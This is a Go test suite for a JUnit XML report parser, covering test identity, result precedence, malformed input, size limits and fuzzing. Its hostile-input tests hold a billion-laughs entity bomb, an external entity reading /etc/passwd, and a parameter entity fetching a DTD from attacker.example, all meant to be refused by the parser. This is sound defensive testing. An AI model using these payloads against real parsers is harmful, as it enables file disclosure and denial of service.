package report_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"strings"
	"testing"
	"testing/iotest"
	"unicode/utf8"

	"github.com/runmill/verify/internal/corpus"
	"github.com/runmill/verify/pkg/report"
	"github.com/runmill/verify/pkg/rmerr"
)

// junitResult renders an inventory compactly: "id=status" per test, "~" for
// flaky, then faults.
func junitResult(inv *report.Inventory) []string {
	var out []string
	for _, t := range inv.Tests {
		s := string(t.ID) + "=" + string(t.Status)
		if t.Flaky {
			s += "~"
		}
		out = append(out, s)
	}
	for _, f := range inv.Faults {
		out = append(out, "fault "+f.Scope+": "+f.Message)
	}
	return out
}

func TestJUnit(t *testing.T) {
	type tc struct {
		name  string
		doc   string
		id    report.Identity
		want  []string   // junitResult; nil when an error is expected
		code  rmerr.Code // expected error code
		err   string     // substring of the error
		notes []string   // substrings, one per expected note, in order
		check func(*testing.T, *report.Inventory)
	}
	run := func(t *testing.T, c tc) {
		inv, err := report.Parse(strings.NewReader(c.doc), report.JUnit, report.Options{Identity: c.id})
		if c.code != "" {
			if err == nil {
				t.Fatalf("got %v, want %s", junitResult(inv), c.code)
			}
			if rmerr.CodeOf(err) != c.code || !strings.Contains(err.Error(), c.err) {
				t.Fatalf("error %q, want %s containing %q", err, c.code, c.err)
			}
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		if got := junitResult(inv); !reflect.DeepEqual(got, c.want) {
			t.Fatalf("got  %q\nwant %q", got, c.want)
		}
		if len(inv.Notes) != len(c.notes) {
			t.Fatalf("notes %q, want %d", inv.Notes, len(c.notes))
		}
		for i, n := range c.notes {
			if !strings.Contains(inv.Notes[i], n) {
				t.Errorf("note %d %q, want it to contain %q", i, inv.Notes[i], n)
			}
		}
		sum := sha256.Sum256([]byte(c.doc))
		if inv.SHA256 != hex.EncodeToString(sum[:]) || inv.Bytes != int64(len(c.doc)) || inv.Format != report.JUnit || inv.Identity != c.id {
			t.Errorf("sha256 %s bytes %d format %s identity %q", inv.SHA256, inv.Bytes, inv.Format, inv.Identity)
		}
		cnt := report.Counts{Total: len(inv.Tests)}
		for _, x := range inv.Tests {
			switch x.Status {
			case report.Passed:
				cnt.Passed++
			case report.Failed:
				cnt.Failed++
			case report.Skipped:
				cnt.Skipped++
			}
		}
		if cnt != inv.Counts {
			t.Errorf("counts %+v, elements say %+v", inv.Counts, cnt)
		}
		if c.check != nil {
			c.check(t, inv)
		}
	}
	nested := `<testsuites name="run">
  <testsuite name="A"><testsuite name="B"><testcase classname="pkg.C" name="t"/></testsuite></testsuite>
  <testsuite name="C"><testsuite><testcase classname="pkg.C" name="t"/></testsuite></testsuite>
  <testcase name="loose"/>
</testsuites>`
	for _, c := range []tc{
		// Identity (spec § 4).
		{name: "classname and name", doc: `<testsuite><testcase classname="a.B" name="t1"/><testcase name="t2"/><testcase classname="" name="t3"/></testsuite>`,
			want: []string{"a.B::t1=passed", "t2=passed", "t3=passed"}},
		{name: "default identity repeats across suites", doc: nested, code: rmerr.ReportIdentity,
			err: `duplicate test id "pkg.C::t": it occurs 2 times; the report cannot prove which of them ran (fix: the repeated ids sit in different testsuites: declare report.identity: suite-path`},
		{name: "suite path", doc: nested, id: report.IdentitySuitePath,
			want: []string{"A > B > pkg.C::t=passed", "C > pkg.C::t=passed", "loose=passed"}},
		{name: "root testsuite is in the path", id: report.IdentitySuitePath, doc: `<testsuite name="S"><testcase name="t"/></testsuite>`,
			want: []string{"S > t=passed"}},
		{name: "entities and char refs in ids", doc: `<testsuite><testcase classname="a&amp;b" name="&lt;&#x41;&#66;&gt; &quot;q&quot; &apos;"/></testsuite>`,
			want: []string{`a&b::<AB> "q" '=passed`}},
		{name: "literal newline in a name stays a newline", doc: "<testsuite><testcase name=\"a\r\nb\tc\"/></testsuite>",
			want: []string{"a\nb\tc=passed"}},
		{name: "no name", doc: `<testsuite><testcase classname="C"/></testsuite>`, code: rmerr.ReportIdentity,
			err: `line 1: a <testcase> in classname "C" without a name has no test identity`},
		{name: "empty name", doc: `<testsuite><testcase name=""/></testsuite>`, code: rmerr.ReportIdentity, err: "without a name"},
		{name: "repeat within one suite", doc: `<testsuite name="S"><testcase name="x"/><testcase name="y"/><testcase name="y"/><testcase name="x"/><testcase name="x"/></testsuite>`,
			code: rmerr.ReportIdentity, err: `duplicate test id "x": it occurs 3 times, and 1 other ids repeat too; the report cannot prove which of them ran (fix: the same id repeats within one testsuite, so report.identity: suite-path would not help`},
		{name: "repeat under suite-path", id: report.IdentitySuitePath, doc: `<testsuite name="S"><testcase name="x"/><testcase name="x"/></testsuite>`,
			code: rmerr.ReportIdentity, err: `duplicate test id "S > x": it occurs 2 times`},
		{name: "unknown identity", doc: `<testsuite><testcase name="t"/></testsuite>`, id: "flat", code: rmerr.ReportFormat, err: "report.identity"},

		// Result precedence: error > failure > skipped > passed.
		{name: "precedence", doc: `<testsuite>
  <testcase name="efs"><skipped/><failure message="f"/><error message="e"/></testcase>
  <testcase name="fs"><skipped message="s"/><failure message="f"/></testcase>
  <testcase name="s"><skipped message="later"/></testcase>
  <testcase name="p"><system-out>x</system-out></testcase>
</testsuite>`,
			want: []string{"efs=failed", "fs=failed", "s=skipped", "p=passed"},
			check: func(t *testing.T, inv *report.Inventory) {
				if m := []string{inv.Tests[0].Message, inv.Tests[1].Message, inv.Tests[2].Message}; !reflect.DeepEqual(m, []string{"e", "f", "later"}) {
					t.Errorf("messages %q", m)
				}
			}},
		// Surefire rerunFailingTestsCount.
		{name: "surefire reruns", doc: `<testsuite>
  <testcase name="flaky"><flakyFailure message="1st"><stackTrace>x</stackTrace></flakyFailure><flakyError/></testcase>
  <testcase name="always"><failure message="boom"/><rerunFailure message="again"/><rerunFailure/></testcase>
  <testcase name="rerun-only"><rerunError message="again"/></testcase>
  <testcase name="flaky-skipped"><flakyFailure/><skipped/></testcase>
</testsuite>`,
			want: []string{"flaky=passed~", "always=failed~", "rerun-only=failed~", "flaky-skipped=skipped~"},
			check: func(t *testing.T, inv *report.Inventory) {
				if inv.Tests[0].Message != "" || inv.Tests[1].Message != "boom" || inv.Tests[2].Message != "again" {
					t.Errorf("messages %q %q %q", inv.Tests[0].Message, inv.Tests[1].Message, inv.Tests[2].Message)
				}
			}},
		// status attributes only ever make a result worse.
		{name: "status attributes", doc: `<testsuite>
  <testcase name="d" status="disabled"/><testcase name="i" status="Ignored"/><testcase name="n" status="NotRunnable"/>
  <testcase name="df" status="disabled"><failure/></testcase>
  <testcase name="f" status="failed"/><testcase name="e" status="ERRORED"/>
  <testcase name="r" status="run"/><testcase name="p" status="passed"><skipped/></testcase>
  <testcase name="w" status="weird"/><testcase name="w2" status="weird"/>
</testsuite>`,
			want:  []string{"d=skipped", "i=skipped", "n=skipped", "df=failed", "f=failed", "e=failed", "r=passed", "p=skipped", "w=passed", "w2=passed"},
			notes: []string{`status="weird" on 2 testcase(s) is not a status runmill knows`}},

		// Messages, files, lines.
		{name: "message from text", doc: "<testsuite><testcase name=\"t\" file=\"a_test.go\" line=\"12\"><failure>\n  boom &amp; <![CDATA[<bang>]]>\n</failure></testcase></testsuite>",
			want: []string{"t=failed"},
			check: func(t *testing.T, inv *report.Inventory) {
				if x := inv.Tests[0]; x.Message != "boom & <bang>" || x.File != "a_test.go" || x.Line != 12 {
					t.Errorf("%+v", x)
				}
			}},
		{name: "file and line from the result element", doc: `<testsuite><testcase name="t"><failure file="x.cpp" line="19" message="REQUIRE"/></testcase><testcase name="u" line="nope"/></testsuite>`,
			want: []string{"t=failed", "u=passed"},
			check: func(t *testing.T, inv *report.Inventory) {
				if x := inv.Tests[0]; x.File != "x.cpp" || x.Line != 19 || inv.Tests[1].Line != 0 {
					t.Errorf("%+v %+v", x, inv.Tests[1])
				}
			}},

		// Counting elements, never attributes.
		{name: "attributes disagree", doc: `<testsuites tests="9" failures="0"><testsuite name="s" tests="2" failures="1" errors="0" skipped="0"><testcase name="a"><failure/></testcase><testcase name="b"/></testsuite></testsuites>`,
			want: []string{"a=failed", "b=passed"},
			notes: []string{
				`tests= disagrees with the elements in 1 of 2 suite elements (first: <testsuites> says tests=9, counted 2 <testcase> elements)`,
				`failures= disagrees with the elements in 1 of 2 suite elements (first: <testsuites> says failures=0, counted 1 testcases failed by <failure>)`,
			}},
		{name: "suite-level error is a fault", doc: `<testsuite name="S"><testcase name="a"/><error message="BeforeClass failed">trace</error></testsuite>`,
			want: []string{"a=passed", "fault S: BeforeClass failed"}},

		// Zero tests is not a pass.
		{name: "no testcase", doc: `<testsuites><testsuite name="s" tests="3"/></testsuites>`, code: rmerr.ReportEmpty,
			err: `the report holds no <testcase> element: zero tests is not a pass (although <testsuite name="s"> declares tests=3)`},
		{name: "empty testsuites", doc: `<testsuites/>`, code: rmerr.ReportEmpty, err: "zero tests is not a pass"},

		// Not JUnit.
		{name: "foreign root", doc: `<suites><suite/></suites>`, code: rmerr.ReportMalformed, err: "root element <suites> is not JUnit"},
		{name: "nested testcase", doc: `<testsuite><testcase name="a"><testcase name="b"/></testcase></testsuite>`, code: rmerr.ReportMalformed, err: "<testcase> inside <testcase>"},
		{name: "testcase in an unknown element", doc: `<testsuite><group><testcase name="b"/></group></testsuite>`, code: rmerr.ReportMalformed, err: "<testcase> inside <group>"},
		{name: "testsuites nested", doc: `<testsuites><testsuites/></testsuites>`, code: rmerr.ReportMalformed, err: "only the root may be <testsuites>"},

		// Well-formedness and the subset.
		{name: "plain text", doc: "this is not an xml file\n", code: rmerr.ReportMalformed, err: `line 1: not an XML document (it begins with "this is not an xml file")`},
		{name: "empty file", doc: "", code: rmerr.ReportMalformed, err: "empty file (0 bytes)"},
		{name: "whitespace only", doc: " \n", code: rmerr.ReportMalformed, err: "no root element"},
		{name: "truncated", doc: "<testsuite>\n<testcase name=\"a\">", code: rmerr.ReportMalformed, err: "line 2: unexpected end of file inside <testcase> (is the report truncated?)"},
		{name: "mismatched end tag", doc: `<testsuite><testcase name="a"></testsuite>`, code: rmerr.ReportMalformed, err: "element <testcase> closed by </testsuite>"},
		{name: "invalid UTF-8", doc: "<testsuite>\n<testcase name=\"caf\xe9\"/></testsuite>", code: rmerr.ReportMalformed, err: "line 2: invalid UTF-8 (byte 0xE9): runmill reads JUnit reports as UTF-8 only"},
		{name: "ISO-8859-1 declared", doc: "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<testsuite><testcase name=\"a\"/></testsuite>", code: rmerr.ReportMalformed,
			err: `the XML declaration says encoding="ISO-8859-1": runmill reads JUnit reports as UTF-8 only (fix: configure the reporter to write UTF-8`},
		{name: "US-ASCII declared", doc: `<?xml version="1.0" encoding="us-ascii"?><testsuite><testcase name="a&#233;"/></testsuite>`, want: []string{"aé=passed"}},
		{name: "US-ASCII declared, other bytes", doc: "<?xml version=\"1.0\" encoding=\"US-ASCII\"?><testsuite><testcase name=\"é\"/></testsuite>", code: rmerr.ReportMalformed, err: "whose XML declaration says US-ASCII"},
		{name: "UTF-8 BOM", doc: "\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?><testsuite><testcase name=\"a\"/></testsuite>", want: []string{"a=passed"}},
		{name: "UTF-16", doc: "\xFF\xFE<\x00t\x00", code: rmerr.ReportMalformed, err: "the report begins with byte 0xFF, as UTF-16 does"},
		{name: "control character", doc: "<testsuite><testcase name=\"a\x01\"/></testsuite>", code: rmerr.ReportMalformed, err: "control character U+0001"},
		{name: "char ref to NUL", doc: `<testsuite><testcase name="a&#0;"/></testsuite>`, code: rmerr.ReportMalformed, err: "character reference to U+0000"},
		{name: "undefined entity", doc: `<testsuite><testcase name="&xxe;"/></testsuite>`, code: rmerr.ReportMalformed, err: `undefined entity "&xxe;": runmill never expands entities`},
		{name: "XML 1.1", doc: `<?xml version="1.1"?><testsuite/>`, code: rmerr.ReportMalformed, err: `XML version "1.1" is not supported`},
		{name: "declaration not first", doc: ` <?xml version="1.0"?><testsuite/>`, code: rmerr.ReportMalformed, err: "misplaced or malformed XML declaration"},
		{name: "comments and PIs", doc: `<?xml version="1.0"?><!-- a --><?xml-stylesheet href="x"?><testsuite><!-- <testcase name="hidden"/> --><?pi?><testcase name="a"/></testsuite><!-- end -->`,
			want: []string{"a=passed"}},
		{name: "double dash in comment", doc: `<testsuite><!-- a -- b --><testcase name="a"/></testsuite>`, code: rmerr.ReportMalformed, err: `"--" inside a comment`},
		{name: "second root", doc: `<testsuite><testcase name="a"/></testsuite><testsuite/>`, code: rmerr.ReportMalformed, err: "a second root element"},
		{name: "duplicate attribute", doc: `<testsuite><testcase name="a" name="b"/></testsuite>`, code: rmerr.ReportMalformed, err: `attribute "name" appears twice`},
		{name: "unquoted attribute", doc: `<testsuite><testcase name=a/></testsuite>`, code: rmerr.ReportMalformed, err: "has no quoted value"},
		{name: "non-ASCII element name", doc: `<testsuite><tést/></testsuite>`, code: rmerr.ReportMalformed, err: "non-ASCII element name"},
	} {
		t.Run(c.name, func(t *testing.T) { run(t, c) })
	}
}

// junitStream is a report of prefix, then unit repeated count times, then
// suffix, generated as it is read: hostile sizes never touch the disk or
// the heap. sum is the SHA-256 of the repeated part.
type junitStream struct {
	r   io.Reader
	sum [sha256.Size]byte
}

func newJUnitStream(prefix, unit string, count int64, suffix string) *junitStream {
	s := &junitStream{sum: junitRepeatSum(unit, count)}
	s.r = io.MultiReader(strings.NewReader(prefix), junitRepeated(unit, count), strings.NewReader(suffix))
	return s
}

func junitRepeated(unit string, count int64) io.Reader {
	block := bytes.Repeat([]byte(unit), max(1, 64<<10/len(unit)))
	return io.LimitReader(&junitRepeat{p: block}, count*int64(len(unit)))
}

func junitRepeatSum(unit string, count int64) (sum [sha256.Size]byte) {
	h := sha256.New()
	io.Copy(h, junitRepeated(unit, count))
	copy(sum[:], h.Sum(nil))
	return sum
}

func (s *junitStream) Read(p []byte) (int, error) { return s.r.Read(p) }

type junitRepeat struct {
	p   []byte
	off int
}

func (r *junitRepeat) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) {
		c := copy(p[n:], r.p[r.off:])
		n += c
		r.off = (r.off + c) % len(r.p)
	}
	return n, nil
}

// junitAllocs runs f and returns the bytes it allocated.
func junitAllocs(f func()) uint64 {
	var a, b runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&a)
	f()
	runtime.ReadMemStats(&b)
	return b.TotalAlloc - a.TotalAlloc
}

// TestJUnitHostile feeds the inputs a hostile or broken producer writes.
// Each must end in a clear coded result, in memory that does not grow with
// the input.
func TestJUnitHostile(t *testing.T) {
	const budget = 8 << 20 // bytes a single parse may allocate, whatever the input size
	parse := func(t *testing.T, r io.Reader, lim report.Limits) (*report.Inventory, error) {
		t.Helper()
		var inv *report.Inventory
		var err error
		if a := junitAllocs(func() { inv, err = report.Parse(r, report.JUnit, report.Options{Limits: lim}) }); a > budget {
			t.Errorf("allocated %d bytes, budget %d", a, budget)
		}
		return inv, err
	}
	wantErr := func(t *testing.T, err error, code rmerr.Code, sub string) {
		t.Helper()
		if rmerr.CodeOf(err) != code || !strings.Contains(fmt.Sprint(err), sub) {
			t.Fatalf("error %v, want %s containing %q", err, code, sub)
		}
	}

	t.Run("billion laughs", func(t *testing.T) {
		var b strings.Builder
		b.WriteString("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n")
		for i := 1; i <= 9; i++ {
			fmt.Fprintf(&b, " <!ENTITY lol%d \"%s\">\n", i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
		}
		b.WriteString("]>\n<testsuite><testcase name=\"&lol9;\"/></testsuite>\n")
		_, err := parse(t, strings.NewReader(b.String()), report.Limits{})
		wantErr(t, err, rmerr.ReportMalformed, `line 2: markup declaration "<!DOCTYPE" refused`)
	})
	t.Run("external entity", func(t *testing.T) {
		_, err := parse(t, strings.NewReader(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><testsuite><testcase name="&xxe;"/></testsuite>`), report.Limits{})
		wantErr(t, err, rmerr.ReportMalformed, "never expands or fetches entities")
	})
	t.Run("parameter entity", func(t *testing.T) {
		_, err := parse(t, strings.NewReader("<!DOCTYPE r [\n<!ENTITY % sp SYSTEM \"http://attacker.example/evil.dtd\">\n%sp;\n]>\n<r>&oob;</r>"), report.Limits{})
		wantErr(t, err, rmerr.ReportMalformed, "DTD")
	})
	t.Run("bare entity declaration", func(t *testing.T) {
		_, err := parse(t, strings.NewReader(`<!ENTITY % param1 "<!ENTITY oob SYSTEM 'http://x/'>">`), report.Limits{})
		wantErr(t, err, rmerr.ReportMalformed, `markup declaration "<!ENTITY"`)
	})
	t.Run("100000-deep nesting", func(t *testing.T) {
		const depth = 100_000
		doc := "<testsuites>" + strings.Repeat(`<testsuite name="s">`, depth) + strings.Repeat("</testsuite>", depth) + "</testsuites>"
		_, err := parse(t, strings.NewReader(doc), report.Limits{})
		wantErr(t, err, rmerr.ReportLimit, "elements nested deeper than 64 levels (Limits.MaxDepth)")
	})
	t.Run("100000-deep unknown elements", func(t *testing.T) {
		const depth = 100_000
		doc := `<testsuite><testcase name="t"><failure>` + strings.Repeat("<x>", depth) + strings.Repeat("</x>", depth) + "</failure></testcase></testsuite>"
		_, err := parse(t, strings.NewReader(doc), report.Limits{})
		wantErr(t, err, rmerr.ReportLimit, "Limits.MaxDepth")
	})
	t.Run("200 MB text node kept", func(t *testing.T) {
		const unit, text, count = "x&lt;yz 日本\n", "x<yz 日本\n", 200 << 20 / 16
		prefix, suffix := `<testsuite><testcase name="t"><failure>`, "</failure></testcase></testsuite>"
		inv, err := parse(t, newJUnitStream(prefix, unit, count, suffix), report.Limits{})
		if err != nil {
			t.Fatal(err)
		}
		msg := inv.Tests[0].Message
		if inv.Counts.Failed != 1 || len(msg) > report.DefaultLimits.MaxField || !utf8.ValidString(msg) || !strings.HasPrefix(msg, text+text) {
			t.Fatalf("counts %+v, message of %d bytes", inv.Counts, len(msg))
		}
		// The note pins the whole text as the report says it, entities decoded.
		sum := junitRepeatSum(text, count)
		if len(inv.Notes) != 1 || !strings.Contains(inv.Notes[0], `message of test "t" cut at`) || !strings.Contains(inv.Notes[0], hex.EncodeToString(sum[:])) {
			t.Fatalf("notes %q", inv.Notes)
		}
		if want := int64(len(prefix)+len(suffix)) + count*int64(len(unit)); inv.Bytes != want {
			t.Fatalf("bytes %d, want %d", inv.Bytes, want)
		}
	})
	t.Run("200 MB text node skipped", func(t *testing.T) {
		s := newJUnitStream(`<testsuite><testcase name="t"/><system-out><![CDATA[`, "log line ]] > \r\n", 200<<20/16, "]]></system-out></testsuite>")
		inv, err := parse(t, s, report.Limits{})
		if err != nil || inv.Counts.Passed != 1 || len(inv.Notes) != 0 {
			t.Fatalf("%v %+v", err, inv)
		}
	})
	t.Run("200 MB attribute value", func(t *testing.T) {
		s := newJUnitStream(`<testsuite><testcase name="t"><skipped message="`, "why", 200<<20/3, `"/></testcase></testsuite>`)
		inv, err := parse(t, s, report.Limits{MaxField: 100})
		if err != nil {
			t.Fatal(err)
		}
		if len(inv.Tests[0].Message) != 100 || len(inv.Notes) != 1 || !strings.Contains(inv.Notes[0], hex.EncodeToString(s.sum[:])) {
			t.Fatalf("message %d bytes, notes %q", len(inv.Tests[0].Message), inv.Notes)
		}
	})
	t.Run("200 MB comment", func(t *testing.T) {
		s := newJUnitStream(`<testsuite><testcase name="t"/><!--`, "- ", 100<<20, `--></testsuite>`)
		if _, err := parse(t, s, report.Limits{}); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("200 MB test name", func(t *testing.T) {
		s := newJUnitStream(`<testsuite><testcase name="`, "n", 200<<20, `"/></testsuite>`)
		_, err := parse(t, s, report.Limits{})
		wantErr(t, err, rmerr.ReportLimit, "a test name or classname longer than 16384 bytes (Limits.MaxField); an id is never cut")
	})
	t.Run("200 MB suite name under suite-path", func(t *testing.T) {
		s := newJUnitStream(`<testsuite name="`, "n", 200<<20, `"><testcase name="t"/></testsuite>`)
		_, err := report.Parse(s, report.JUnit, report.Options{Identity: report.IdentitySuitePath})
		wantErr(t, err, rmerr.ReportLimit, "a testsuite name longer than 16384 bytes (Limits.MaxField)")
	})
	t.Run("MaxBytes", func(t *testing.T) {
		s := newJUnitStream(`<testsuite><testcase name="t"/><system-out>`, "x", 200<<20, `</system-out></testsuite>`)
		_, err := parse(t, s, report.Limits{MaxBytes: 1 << 20})
		wantErr(t, err, rmerr.ReportLimit, "report is larger than the cap of 1048576 bytes (Limits.MaxBytes)")
	})
	t.Run("MaxTests", func(t *testing.T) {
		s := newJUnitStream(`<testsuite>`, `<testcase name="t"/>`, 20*1000, `</testsuite>`)
		_, err := parse(t, s, report.Limits{MaxTests: 999})
		wantErr(t, err, rmerr.ReportLimit, "more than 999 test cases (Limits.MaxTests)")
	})
	t.Run("too many attributes", func(t *testing.T) {
		var b strings.Builder
		b.WriteString(`<testsuite><testcase name="t"`)
		for i := range 300 {
			fmt.Fprintf(&b, ` a%d="1"`, i)
		}
		b.WriteString(`/></testsuite>`)
		_, err := parse(t, strings.NewReader(b.String()), report.Limits{})
		wantErr(t, err, rmerr.ReportLimit, "more than 256 attributes (cap: attributes per element)")
	})
	t.Run("long element name", func(t *testing.T) {
		_, err := parse(t, strings.NewReader("<testsuite><"+strings.Repeat("x", 5000)+"/></testsuite>"), report.Limits{})
		wantErr(t, err, rmerr.ReportLimit, "element name longer than 1024 bytes (cap: XML name length)")
	})
	t.Run("long character reference", func(t *testing.T) {
		doc := `<testsuite><testcase name="&#` + strings.Repeat("0", 1<<20) + `65;"/></testsuite>`
		inv, err := parse(t, strings.NewReader(doc), report.Limits{})
		if err != nil || inv.Tests[0].ID != "A" {
			t.Fatalf("%v %+v", err, inv)
		}
	})
	t.Run("read error", func(t *testing.T) {
		boom := errors.New("disk on fire")
		_, err := parse(t, io.MultiReader(strings.NewReader(`<testsuite><testcase name="t"/>`), iotest.ErrReader(boom)), report.Limits{})
		if !errors.Is(err, boom) || rmerr.CodeOf(err) != rmerr.ReportMalformed {
			t.Fatalf("error %v", err)
		}
	})
	t.Run("reader that never progresses", func(t *testing.T) {
		_, err := parse(t, junitStall{}, report.Limits{})
		if !errors.Is(err, io.ErrNoProgress) {
			t.Fatalf("error %v", err)
		}
	})
	t.Run("endless input", func(t *testing.T) {
		_, err := parse(t, io.MultiReader(strings.NewReader("<testsuite>"), &junitRepeat{p: []byte("<x>")}), report.Limits{})
		wantErr(t, err, rmerr.ReportLimit, "Limits.MaxDepth")
		_, err = parse(t, io.MultiReader(strings.NewReader("<testsuite><system-out>"), &junitRepeat{p: []byte("a")}), report.Limits{MaxBytes: 64 << 20})
		wantErr(t, err, rmerr.ReportLimit, "Limits.MaxBytes")
	})
}

type junitStall struct{}

func (junitStall) Read([]byte) (int, error) { return 0, nil }

// TestJUnitChunking: the result never depends on how the reader splits the
// bytes, including which error a broken report earns.
func TestJUnitChunking(t *testing.T) {
	docs := []string{
		"<testsuite>\n<testcase name=\"\"/>\xff</testsuite>",
		"<?xml version=\"1.0\" encoding=\"ascii\"?>\n<testsuite><testcase name=\"a\"/><testcase name=\"a\"/>é</testsuite>",
		"<testsuite><testcase name=\"a\r\"><failure>\r\n]]]&amp;<![CDATA[\r]]></failure></testcase></testsuite>\r\n",
		"<testsuite><testcase name=\"日本語\"/></testsuite>\xe6\x97",
		"<testsuite><testcase name=\"&apos;&amp;&quot;&lt;&gt;&#x41;&#66;\"><skipped>&apos;&amp;&am</skipped></testcase></testsuite>",
	}
	for _, d := range docs {
		junitSameWhateverChunking(t, []byte(d), report.Options{})
	}
}

func junitSameWhateverChunking(t *testing.T, doc []byte, opts report.Options) (*report.Inventory, error) {
	t.Helper()
	inv, err := report.Parse(bytes.NewReader(doc), report.JUnit, opts)
	readers := []io.Reader{iotest.DataErrReader(bytes.NewReader(doc)), iotest.HalfReader(bytes.NewReader(doc))}
	if len(doc) <= 32<<10 { // one byte at a time costs ~30 ns a byte: keep the fuzzer fast
		readers = append(readers, iotest.OneByteReader(bytes.NewReader(doc)))
	}
	for _, r := range readers {
		inv2, err2 := report.Parse(r, report.JUnit, opts)
		if fmt.Sprint(err) != fmt.Sprint(err2) || !reflect.DeepEqual(inv, inv2) {
			t.Fatalf("chunking changes the result:\n%v %+v\n%v %+v\ndoc %q", err, inv, err2, inv2, doc)
		}
	}
	return inv, err
}

// FuzzJUnit parses arbitrary bytes: never a panic or a hang, a coded error or
// an inventory that keeps every promise of the Inventory type, and the same
// answer whatever the reader's chunking.
func FuzzJUnit(f *testing.F) {
	dir := filepath.Join(corpus.Dir(f), "junit")
	entries, err := os.ReadDir(dir)
	if err != nil {
		f.Fatal(err)
	}
	for _, e := range entries {
		doc, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(doc, uint8(0))
	}
	for _, name := range []string{"node24.11-junit.xml", "node20.20-junit-file-classname.xml", "node20.20-junit.xml"} {
		doc, err := os.ReadFile(filepath.Join("testdata/recorded", name))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(doc, uint8(8|1))
	}
	f.Fuzz(func(t *testing.T, doc []byte, mode uint8) {
		opts := report.Options{}
		if mode&8 != 0 {
			opts.Root = nodeRoot
		}
		if mode&1 != 0 {
			opts.Identity = report.IdentitySuitePath
		}
		if mode&2 != 0 {
			opts.Limits = report.Limits{MaxBytes: 1 << 20, MaxDepth: 6, MaxField: 32, MaxTests: 50}
		}
		if mode&4 != 0 {
			// A baseline reading: duplicates are dropped, never kept.
			opts.AllowDuplicateIDs = true
		}
		inv, err := junitSameWhateverChunking(t, doc, opts)
		if err != nil {
			switch rmerr.CodeOf(err) {
			case rmerr.ReportMalformed, rmerr.ReportIdentity, rmerr.ReportLimit, rmerr.ReportEmpty:
			default:
				t.Fatalf("uncoded or unexpected error: %v", err)
			}
			return
		}
		sum := sha256.Sum256(doc)
		if claimed, seen, more := inv.ClaimsMoreFailures(); more != (claimed > seen) || seen < 0 || claimed < 0 {
			t.Fatalf("ClaimsMoreFailures = %d, %d, %v", claimed, seen, more)
		}
		if inv.SHA256 != hex.EncodeToString(sum[:]) || inv.Bytes != int64(len(doc)) || len(inv.Tests) == 0 && inv.DuplicateCount == 0 || inv.Counts.Total != len(inv.Tests) ||
			inv.Counts.Passed+inv.Counts.Failed+inv.Counts.Skipped != inv.Counts.Total {
			t.Fatalf("inventory breaks its invariants: %+v", inv)
		}
		maxField := report.DefaultLimits.MaxField
		if opts.Limits.MaxField > 0 {
			maxField = opts.Limits.MaxField
		}
		seen := map[report.TestID]bool{}
		for _, x := range inv.Tests {
			if x.ID == "" || seen[x.ID] || !utf8.ValidString(string(x.ID)) || !utf8.ValidString(x.Message) || len(x.Message) > maxField {
				t.Fatalf("bad test %+v", x)
			}
			seen[x.ID] = true
			if x.Status != report.Passed && x.Status != report.Failed && x.Status != report.Skipped {
				t.Fatalf("bad status %+v", x)
			}
		}
		checkFiles(t, inv)
	})
}
